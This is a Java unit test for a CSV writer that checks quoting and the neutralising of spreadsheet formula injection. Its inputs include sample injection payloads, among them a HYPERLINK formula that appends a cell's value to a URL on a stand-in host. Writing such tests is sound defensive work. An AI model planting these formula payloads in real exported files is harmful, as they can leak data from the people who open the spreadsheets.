package com.altcontext.retention;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class CsvTest {
    private static String row(@Nullable String... cells) throws IOException {
        StringBuilder out = new StringBuilder();
        Csv.row(out, cells);
        return out.toString();
    }

    @Test
    void plain_cells_stand_as_they_are_and_a_missing_one_is_empty() throws IOException {
        assertThat(row("a@example.ca", null, "", "é 🍁 it's", "1-2=3")).isEqualTo("a@example.ca,,,é 🍁 it's,1-2=3\r\n");
    }

    @Test
    void what_would_end_a_cell_is_quoted() throws IOException {
        assertThat(row("a,b", "say \"no\"", "one\r\ntwo", "a;b", "\"", ","))
                .isEqualTo("\"a,b\",\"say \"\"no\"\"\",\"one\r\ntwo\",\"a;b\",\"\"\"\",\",\"\r\n");
    }

    @Test
    void what_looks_like_a_formula_is_made_text() throws IOException {
        assertThat(row("=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠x"))
                .isEqualTo("'=1+1,'+1,'-1,'@SUM(A1),'＝1,'＋1,'－1,'＠x\r\n");
        assertThat(row("\t=1", "\r=1", "\n=1")).isEqualTo("\"'\t'=1\",\"'\r'=1\",\"'\n'=1\"\r\n");
        assertThat(row("=HYPERLINK(\"http://x/?\"&A1,\"y\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"\r\n");
    }

    @Test
    void what_a_french_spreadsheet_takes_for_a_cell_is_made_text_too() throws IOException {
        assertThat(row("a;=1", "b\n=1", "c\t@x", "d;;-1")).isEqualTo("\"a;'=1\",\"b\n'=1\",\"c\t'@x\",\"d;;'-1\"\r\n");
    }
}
